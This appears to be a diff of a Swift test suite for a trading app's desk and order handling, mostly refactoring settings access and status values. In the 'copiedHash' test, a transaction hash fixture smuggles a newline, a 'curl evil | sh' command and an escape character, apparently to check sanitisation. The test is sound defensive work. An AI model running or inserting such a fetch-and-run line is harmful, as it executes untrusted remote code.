@@ -8,6 +8,7 @@ import Trading
 
 @testable import Accounts
 @testable import ScreenState
+@testable import TradingService
 @testable import ViewModels
 
 /// What a person and a script are told of amounts, ends and failures, by a server that says what the
@@ -23,8 +24,8 @@ import Trading
   ) async throws {
     try await Bench.run { bench in
       let market = try ScriptedMarket(network: bench.network, balances: Self.rows)
-      let desk = bench.desk(ledger: ledger) { $0.tradingURL = market.url }
-      try await desk.only(SignInToTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
+      let desk = bench.desk(ledger: ledger) { $0[.trading].url = market.url }
+      try await desk.only(SignIn.toTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
       let outcome: Result<Void, any Error>
       do {
         outcome = .success(try await body(bench, market, desk))
@@ -103,7 +104,7 @@ import Trading
     try await with { bench, market, desk in
       func keep(_ id: String, _ orderId: String) async throws {
         let order = OrderRecord(
-          clientOrderId: id, orderId: orderId, status: "FILLED", from: "ETH", to: "USDT",
+          clientOrderId: id, orderId: orderId, status: .filled, from: "ETH", to: "USDT",
           amount: "1", slippageBps: 30, createdAt: 1)
         try await bench.store.orders.record(order, [])
         market.set(
@@ -114,7 +115,7 @@ import Trading
       #expect(try await desk.only(ShowOrder(id: "asked")).filledOut == "3")
       try await keep("followed", "ord_2")
       await desk.close()
-      let next = bench.desk { $0.tradingURL = market.url }
+      let next = bench.desk { $0[.trading].url = market.url }
       _ = try await next.lines(of: ListBalances())
       let found = try await next.eventually("the amount") {
         try await bench.store.orders.order("followed")?.filledOut
@@ -152,7 +153,7 @@ import Trading
     }
     try await with { bench, market, desk in
       await desk.close()
-      let next = bench.desk { ($0.tradingURL, $0.tradingRecorder) = (market.url, FullRecorder()) }
+      let next = bench.desk(recorder: FullRecorder()) { $0[.trading].url = market.url }
       let console = ModelBench(bench, desk: next)
       try await console.until("a notice") { screen in
         screen.notices.contains { $0.text == "session.jsonl cannot be written" }
@@ -165,7 +166,7 @@ import Trading
     try await with { bench, market, desk in
       await desk.close()
       market.set(closed: true)
-      let second = ModelBench(bench, desk: bench.desk { $0.tradingURL = market.url })
+      let second = ModelBench(bench, desk: bench.desk { $0[.trading].url = market.url })
       try await second.until("a pause") {
         if case .waiting = $0.lamp(.trading) { true } else { false }
       }
@@ -176,7 +177,7 @@ import Trading
 
       let works = #"{"op":"auth","data":{"status":"authenticated"}}"#
       market.set("auth", #"{"error":"Invalid API key"}"#)
-      let third = ModelBench(bench, desk: bench.desk { $0.tradingURL = market.url })
+      let third = ModelBench(bench, desk: bench.desk { $0[.trading].url = market.url })
       try await third.until("its end") {
         if case .stopped = $0.lamp(.trading) { true } else { false }
       }
@@ -190,7 +191,7 @@ import Trading
   func copiedHash() async throws {
     try await with { bench, _, desk in
       let order = OrderRecord(
-        clientOrderId: "mine", orderId: "ord_1", status: "FILLED", from: "ETH", to: "USDT",
+        clientOrderId: "mine", orderId: "ord_1", status: .filled, from: "ETH", to: "USDT",
         amount: "1", slippageBps: 30, filledOut: "3", txHash: "0x1\ncurl evil | sh\u{1b}",
         createdAt: 1)
       try await bench.store.orders.record(order, [])
